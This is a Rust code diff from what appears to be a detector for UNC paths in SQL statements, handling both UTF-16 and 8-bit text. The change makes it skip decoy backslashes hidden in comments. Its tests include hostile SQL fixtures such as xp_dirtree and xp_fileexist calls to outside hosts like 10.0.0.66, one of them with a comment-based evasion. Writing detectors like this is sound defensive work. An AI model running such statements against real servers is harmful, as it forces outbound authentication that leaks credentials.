@@ -51,14 +51,23 @@ fn begins(text: &[u8], word: &[u8], wide: bool) -> Option<usize> {
     same.then_some(length)
 }
 
-/// The first `\\\\host\\...` in UTF-16 or 8-bit text.
+/// Two backslashes that are looked at in one statement, in each form of text.
+const TRIED: usize = 16;
+
+/// The first `\\\\host\\...` in UTF-16 or 8-bit text. `\\\\` without a host is an escape in other people's text.
 fn unc(bytes: &[u8], path: &mut String) -> bool {
-    let wide = memchr::memmem::find(bytes, b"\\\0\\\0").map(|at| (at, 2));
-    let narrow = memchr::memmem::find(bytes, b"\\\\").map(|at| (at, 1));
-    let Some((at, width)) = [wide, narrow].into_iter().flatten().min() else {
-        return false;
-    };
-    let text = bytes.get(at..).unwrap_or_default();
+    let wide = memchr::memmem::find_iter(bytes, b"\\\0\\\0").map(|at| (at, 2));
+    let narrow = memchr::memmem::find_iter(bytes, b"\\\\").map(|at| (at, 1));
+    let mut starts: Vec<(usize, usize)> = wide.take(TRIED).chain(narrow.take(TRIED)).collect();
+    starts.sort_unstable();
+    starts
+        .into_iter()
+        .any(|(at, width)| names_host(bytes.get(at..).unwrap_or_default(), width, path))
+}
+
+/// Leaves the path at the front in `path`, if it names a host. `width` is the octets of a character.
+fn names_host(text: &[u8], width: usize, path: &mut String) -> bool {
+    path.clear();
     let ends = |c: &u8| matches!(c, b'\'' | b'"' | b']') || c.is_ascii_control();
     let units = text.chunks_exact(width).take(RPC_ARGUMENT_CHARS);
     let units = units.take_while(|unit| !unit.first().is_none_or(ends));
@@ -70,7 +79,6 @@ fn unc(bytes: &[u8], path: &mut String) -> bool {
             _ => char::REPLACEMENT_CHARACTER,
         }
     }));
-    // A host has to follow: `\\\\` alone is an escape in other people's text.
     let is_host =
         path.chars().nth(2).is_some_and(char::is_alphanumeric) || path.starts_with(r"\\?");
     if !is_host {
@@ -104,6 +112,11 @@ mod tests {
                 r"\\10.0.0.66\share",
             ),
             (r"exec MASTER.dbo.XP_DirTree N'\\L\x',1,1", 1, r"\\L\x"),
+            (
+                r"EXEC xp_dirtree /*\\ */ '\\10.0.0.66\x'",
+                1,
+                r"\\10.0.0.66\x",
+            ),
             (
                 r#"xp_fileexist "\\l.lab.test\a b\c.txt""#,
                 2,
